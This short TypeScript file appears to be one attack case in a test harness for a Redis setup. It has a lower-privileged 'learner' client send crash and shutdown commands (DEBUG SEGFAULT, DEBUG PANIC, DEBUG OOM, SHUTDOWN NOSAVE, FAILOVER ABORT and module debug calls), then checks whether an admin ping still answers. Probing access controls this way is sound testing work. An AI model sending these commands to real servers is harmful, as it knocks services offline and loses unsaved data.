// Ends the server by the commands that are there for its developers, and by SHUTDOWN → it runs on
import { attack } from '../attack.ts';

export default attack(async ({ redis }) => {
  const { learner, admin } = await redis();
  for (const words of [
    ['DEBUG', 'SEGFAULT'],
    ['DEBUG', 'RESTART'],
    ['DEBUG', 'PANIC'],
    ['DEBUG', 'OOM'],
    ['SHUTDOWN', 'NOSAVE'],
    ['FT.DEBUG', 'DUMP_TERMS', 'x'],
    ['BF.DEBUG', 'x'],
    ['CF.DEBUG', 'x'],
    ['PFDEBUG', 'ENCODING', 'x'],
    ['FAILOVER', 'ABORT'],
  ])
    await learner.call(words[0], ...words.slice(1)).catch(() => null);
  const answer = await admin.ping().catch((error: Error) => error.message);
  return { effect: answer !== 'PONG', observed: String(answer) };
});
